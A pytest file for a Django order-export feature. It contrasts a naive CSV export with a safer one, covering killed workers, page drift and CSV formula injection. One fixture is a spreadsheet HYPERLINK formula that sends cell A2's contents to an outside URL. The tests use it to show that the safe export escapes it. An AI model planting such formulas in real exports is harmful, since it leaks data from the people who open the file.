"""What goes wrong with the naive export, and not with this one. Told in `docs/exports.md`."""

import csv
import io
import zipfile
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from accounts.models import User
from accounts.tests.factories import make_user
from exports import files
from exports.kinds import ExportKind
from exports.tests.factories import make_export, make_orders
from exports.tests.naive import PAGE, export_orders
from orders.models import Order
from tasks.testing import run_due

pytestmark = pytest.mark.django_db


class Killed(BaseException):
    """As sudden as SIGKILL."""


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "orders.csv"


@pytest.fixture
def customer() -> User:
    return make_user()


def numbers(content: str) -> list[str]:
    """Return the first cell of every row below the head."""
    return [row[0] for row in csv.reader(content.splitlines())][1:]


def after_rows(count: int, happens: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Have something happen once so many rows of the naive export were read."""
    seen = Counter[str]()
    lines = Order.lines

    def look(order: Order) -> Any:
        seen["rows"] += 1
        if seen["rows"] == count:
            happens()
        return lines.__get__(order, Order)

    monkeypatch.setattr(Order, "lines", property(look))


def test_naive_a_killed_worker_leaves_half_a_file_that_looks_whole(
    path: Path, customer: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_orders(50, user=customer)

    def die() -> None:
        raise Killed

    after_rows(30, die, monkeypatch)
    with pytest.raises(Killed):
        export_orders(path)

    assert len(numbers(path.read_text())) == 29, "21 orders are missing, and nothing says so"


def test_here_a_killed_worker_leaves_no_file_to_download(
    customer: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_orders(50, user=customer)
    export = make_export(user=customer)

    def die(*_args: Any, **_kwargs: Any) -> None:
        raise Killed

    monkeypatch.setattr(files, "save_whole", die)
    run_due()

    export.refresh_from_db()
    assert export.file == ""


def test_naive_an_order_placed_meanwhile_shifts_the_pages_and_one_is_written_twice(
    path: Path, customer: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_orders(50, user=customer)
    after_rows(PAGE, lambda: make_orders(1, user=customer), monkeypatch)

    export_orders(path)

    assert max(Counter(numbers(path.read_text())).values()) == 2


def test_here_what_is_placed_meanwhile_shifts_nothing(
    customer: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    orders = make_orders(50, user=customer)
    export = make_export(user=customer)
    save_part = files.save_part

    def order_one(*args: Any, **kwargs: Any) -> str:
        make_orders(1, user=customer)
        return save_part(*args, **kwargs)

    monkeypatch.setattr(files, "save_part", order_one)
    run_due()

    export.refresh_from_db()
    written = numbers(files.read(export.file).decode())
    assert written == [str(order.public_id) for order in orders]


FORMULA = '=HYPERLINK("http://example.com/?"&A2,"Click")'


def test_naive_a_products_name_is_run_as_a_formula(path: Path, customer: User) -> None:
    make_orders(1, user=customer, name=FORMULA)

    export_orders(path)

    [row] = list(csv.reader(path.read_text().splitlines()))[1:]
    assert row[1].startswith("=")


def test_here_a_products_name_is_text(customer: User) -> None:
    make_orders(1, user=customer, name=FORMULA)
    export = make_export(ExportKind.MY_DATA, user=customer)
    run_due()

    export.refresh_from_db()
    archive = zipfile.ZipFile(io.BytesIO(files.read(export.file)))
    [row] = list(csv.reader(archive.read("order_lines.csv").decode().splitlines()))[1:]
    assert row[1] == f"'{FORMULA}"
